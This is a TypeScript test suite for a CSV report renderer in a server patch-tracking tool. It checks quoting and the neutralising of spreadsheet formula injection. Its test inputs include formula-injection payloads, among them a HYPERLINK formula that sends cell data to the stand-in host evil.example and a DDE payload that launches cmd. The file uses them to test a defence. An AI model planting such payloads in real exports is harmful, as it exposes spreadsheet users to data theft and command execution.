import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ValidationError } from '../../src/errors.js';
import { type RenderCsvOptions, renderCsv } from '../../src/report/index.js';
import { csvCell, csvRow } from '../../src/util/csv.js';
import { FORMULAS, HOSTILE, sampleReport } from './sample.js';

/**
 * A strict RFC 4180 reader: quotes only around whole fields, CRLF record ends (the last one
 * included), no bare CR or LF outside quotes. Anything else throws, so the tests also prove the
 * output is well-formed.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let fieldStart = true;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') {
        cell += '"';
        i++;
      } else {
        quoted = false;
        if (!['"', ',', '\r', undefined].includes(text[i + 1]) || text[i + 1] === '"') {
          throw new Error(`text after a closing quote at ${i}`);
        }
      }
      continue;
    }
    if (ch === '"') {
      if (!fieldStart) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStart = false;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
      fieldStart = true;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      fieldStart = true;
      i++;
    } else if (ch === '\r' || ch === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      cell += ch;
      fieldStart = false;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (cell !== '' || row.length > 0) throw new Error('last record is not CRLF-terminated');
  return rows;
}

function withServerNames(names: string[]) {
  const data = sampleReport();
  names.forEach((name, i) => {
    data.servers[i]!.name = name;
  });
  return data;
}

describe('renderCsv', () => {
  it('renderCsv — writes a header of JSON field names, then one CRLF-terminated row per server', () => {
    const data = sampleReport();
    const rows = parseCsv(renderCsv(data, { table: 'servers' }));
    expect(rows[0]).toEqual([
      'id',
      'name',
      'provider',
      'accountId',
      'region',
      'os',
      'status',
      'alert',
      'pending',
      'security',
      'lastScannedAt',
      'lastUpdatedAt',
      'reasons',
    ]);
    expect(rows).toHaveLength(data.servers.length + 1);
    expect(rows[3]).toEqual([
      'srv-web-03',
      'web-03.acme.example',
      'aws',
      'acct-prod',
      'eu-west-1',
      'Debian 12',
      'non-compliant',
      'true',
      '5',
      '3',
      '2025-06-30T06:00:00Z',
      '2025-06-21T02:00:00Z',
      'openssl security update pending for 21 days (limit 14); Reboot required since 2025-06-10',
    ]);
    // Every row has as many cells as the header.
    expect(new Set(rows.map((r) => r.length))).toEqual(new Set([13]));
  });

  it('renderCsv — quotes every field and doubles the quotes', () => {
    const names = ['a,b', 'say "hi"', 'line\nbreak', 'carriage\rreturn', 'crlf\r\nboth', 'plain'];
    const csv = renderCsv(withServerNames(names), { table: 'servers' });
    expect(csv).toContain('\r\n"srv-web-01","a,b",');
    expect(csv).toContain('\r\n"srv-web-02","say ""hi""",');
    expect(csv).toContain('\r\n"srv-web-03","line\nbreak",');
    expect(csv).toContain('\r\n"srv-api-02","plain",');
    const rows = parseCsv(csv);
    expect(rows.slice(1, 7).map((r) => r[1])).toEqual(names);
  });

  it('renderCsv — neutralises formula injection with a leading quote', () => {
    const csv = renderCsv(withServerNames(FORMULAS), { table: 'servers' });
    const rows = parseCsv(csv);
    // '-3' is a plain number: a spreadsheet reads it as -3 and it can run nothing, so it stays.
    expect(rows.slice(1, 1 + FORMULAS.length).map((r) => r[1])).toEqual(
      FORMULAS.map((f) => (f === '-3' ? f : `'${f}`)),
    );
    // Quoting still applies after the prefix: the quote goes inside the field.
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
    expect(csv).toContain(`"'\rcmd"`);
  });

  it('renderCsv — neutralises formulas in every column, including lists and the patches table', () => {
    const data = sampleReport();
    data.servers[0]!.reasons = ['=1+1', 'ok'];
    data.patches[0]!.name = '@cmd';
    data.patches[0]!.advisories = ['-x'];
    const servers = parseCsv(renderCsv(data, { table: 'servers' }));
    expect(servers[1]![12]).toBe("'=1+1; ok");
    const patches = parseCsv(renderCsv(data, { table: 'patches' }));
    expect(patches[1]![2]).toBe("'@cmd");
    expect(patches[1]![9]).toBe("'-x");
  });

  it('renderCsv — leaves ordinary values alone, formula characters inside a word included', () => {
    const names = ['a=b', 'web-01', 'x+y@z', 'a; b', '-3', '2.5e-3'];
    const rows = parseCsv(renderCsv(withServerNames(names), { table: 'servers' }));
    expect(rows.slice(1, 1 + names.length).map((r) => r[1])).toEqual(names);
  });

  it('renderCsv — neutralises a formula after leading blanks or quotes, or after any separator', () => {
    const names = [' =leading space', '"=quoted', 'a;=1+1', 'a,+1', 'a\t@x', 'a|-2+3', 'a\n=1', 'a; =1'];
    const csv = renderCsv(withServerNames(names), { table: 'servers' });
    const rows = parseCsv(csv);
    expect(rows.slice(1, 1 + names.length).map((r) => r[1])).toEqual(names.map((n) => `'${n}`));
    // The case: a spreadsheet splitting on ';' sees one quoted cell, not "a" and "=1+1".
    expect(csv).toContain(`"'a;=1+1"`);
  });

  it('renderCsv — writes the patches table with empty cells for null and absent values', () => {
    const data = sampleReport();
    const rows = parseCsv(renderCsv(data, { table: 'patches' }));
    expect(rows[0]).toEqual([
      'serverId',
      'serverName',
      'name',
      'installedVersion',
      'candidateVersion',
      'category',
      'severity',
      'firstSeenAt',
      'ageDays',
      'advisories',
    ]);
    expect(rows).toHaveLength(data.patches.length + 1);
    expect(rows[1]).toEqual([
      'srv-web-03',
      'web-03.acme.example',
      'openssl',
      '3.0.15-1~deb12u1',
      '3.0.16-1~deb12u1',
      'security',
      'high',
      '2025-06-09T06:00:00Z',
      '',
      'DSA-5920-1; CVE-2025-1234',
    ]);
    const notInstalled = rows.find((r) => r[2] === 'kernel-modules-core')!;
    expect(notInstalled[3]).toBe('');
    expect(notInstalled[7]).toBe('');
    // HTML-hostile text is not HTML's problem in CSV: kept verbatim.
    expect(rows.find((r) => r[0] === 'srv-build-01')![1]).toBe(HOSTILE.script);
  });

  it('renderCsv — writes only the header for an empty table', () => {
    const data = sampleReport();
    data.patches = [];
    expect(renderCsv(data, { table: 'patches' })).toBe(
      '"serverId","serverName","name","installedVersion","candidateVersion","category","severity","firstSeenAt","ageDays","advisories"\r\n',
    );
  });

  it('renderCsv — starts with a UTF-8 BOM only when asked', () => {
    const data = sampleReport();
    expect(renderCsv(data, { table: 'servers' }).startsWith('"id",')).toBe(true);
    expect(renderCsv(data, { table: 'servers', bom: true }).startsWith('\uFEFF"id",')).toBe(true);
  });

  it('renderCsv — rejects an unknown table or invalid data with a ValidationError', () => {
    const data = sampleReport();
    expect(() => renderCsv(data, { table: 'users' } as unknown as RenderCsvOptions)).toThrow(ValidationError);
    data.totals.compliant += 1;
    expect(() => renderCsv(data, { table: 'servers' })).toThrow(ValidationError);
  });
});

/** RFC 4180 reader of one record: quotes around whole fields only, `""` for a quote. */
function splitRecord(line: string, separator: string): string[] {
  const cells: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const end = line.indexOf('"', i);
        if (end < 0) throw new Error('unterminated quote');
        cell += line.slice(i, end);
        i = end + 1;
        if (line[i] !== '"') break;
        cell += '"';
        i++;
      }
      if (i < line.length && line[i] !== separator) throw new Error(`text after a closing quote at ${i}`);
    } else {
      const end = line.indexOf(separator, i);
      cell = line.slice(i, end < 0 ? line.length : end);
      i += cell.length;
    }
    cells.push(cell);
    if (i >= line.length) return cells;
    i++;
  }
}

/**
 * How a forgiving spreadsheet import reads a record split on another separator than the file's:
 * every `"` opens or closes quoting (`""` inside quotes is a quote), separators split only
 * outside quotes, everything else is kept.
 */
function splitLoosely(line: string, separator: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (ch === '"') {
      if (quoted && line[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = !quoted;
    } else if (ch === separator && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += ch;
  }
  cells.push(cell);
  return cells;
}

/**
 * Formula starts per OWASP, after the blanks and quotes a spreadsheet may skip; tab and CR are
 * starts themselves. A leading `'` makes the cell text, and a plain number runs nothing.
 */
const FORMULA_START = /^[^\S\t\r]*"*[^\S\t\r]*[=+\-@\t\r]/u;
const opensFormula = (cell: string) =>
  !cell.startsWith("'") && !PLAIN_NUMBER.test(cell) && FORMULA_START.test(cell);
const PLAIN_NUMBER = /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?$/;
const EMBEDDED_FORMULA = /[,;\t|\r\n][^\S\t\r]*["']*[^\S\t\r]*[=+\-@\t\r]/u;

/** Strings rich in everything that matters here: separators, quotes, blanks and formula starts. */
const hostileText = fc.string({
  unit: fc.oneof(
    fc.constantFrom(',', ';', '\t', '|', '\r', '\n', '"', "'", ' ', '=', '+', '-', '@', '1', '.', 'e', 'a'),
    fc.string({ minLength: 1, maxLength: 1 }),
  ),
  maxLength: 24,
});

describe('csvCell', () => {
  it('csvCell — a record read back on "," gives every value back, none of them a formula', () => {
    fc.assert(
      fc.property(fc.array(hostileText, { minLength: 1, maxLength: 4 }), (values) => {
        const line = csvRow(values);
        expect(line.endsWith('\r\n')).toBe(true);
        const cells = splitRecord(line.slice(0, -2), ',');
        expect(cells).toHaveLength(values.length);
        for (const [i, cell] of cells.entries()) {
          const value = values[i]!;
          expect(cell === value || cell === `'${value}`, JSON.stringify({ value, cell })).toBe(true);
          expect(opensFormula(cell), JSON.stringify(cell)).toBe(false);
          // A formula start after a separator inside the value marks the whole cell too.
          if (EMBEDDED_FORMULA.test(value)) expect(cell.startsWith("'"), JSON.stringify(value)).toBe(true);
        }
      }),
      { numRuns: 2000 },
    );
  });

  it('csvCell — a record read on ";" or tab opens no cell with a formula', () => {
    fc.assert(
      fc.property(
        fc.array(hostileText, { minLength: 1, maxLength: 4 }),
        fc.constantFrom(';', '\t'),
        (values, sep) => {
          for (const cell of splitLoosely(csvRow(values).slice(0, -2), sep)) {
            // Read on the wrong separator, a record is one cell. When it starts with a plain
            // number, the rest follows a `,` and sits, in the file, inside `"…"` with inner quotes
            // doubled: a string literal to a formula parser, which no cell content can leave.
            const lead = cell.slice(0, cell.indexOf(',') < 0 ? cell.length : cell.indexOf(','));
            if (PLAIN_NUMBER.test(lead)) continue;
            expect(opensFormula(cell), JSON.stringify({ values, cell })).toBe(false);
          }
        },
      ),
      { numRuns: 2000 },
    );
  });

  it('csvCell — keeps plain numbers usable and writes empty cells for null and undefined', () => {
    expect([-3, 0, 2.5, '-3', '+1', '1e-7'].map(csvCell)).toEqual([
      '"-3"',
      '"0"',
      '"2.5"',
      '"-3"',
      '"+1"',
      '"1e-7"',
    ]);
    expect(['-3+A1', "-2+3+cmd|' /C calc'!A0", '+1+2', '--3'].map(csvCell)).toEqual([
      `"'-3+A1"`,
      `"'-2+3+cmd|' /C calc'!A0"`,
      `"'+1+2"`,
      `"'--3"`,
    ]);
    expect([null, undefined, true].map(csvCell)).toEqual(['""', '""', '"true"']);
  });
});
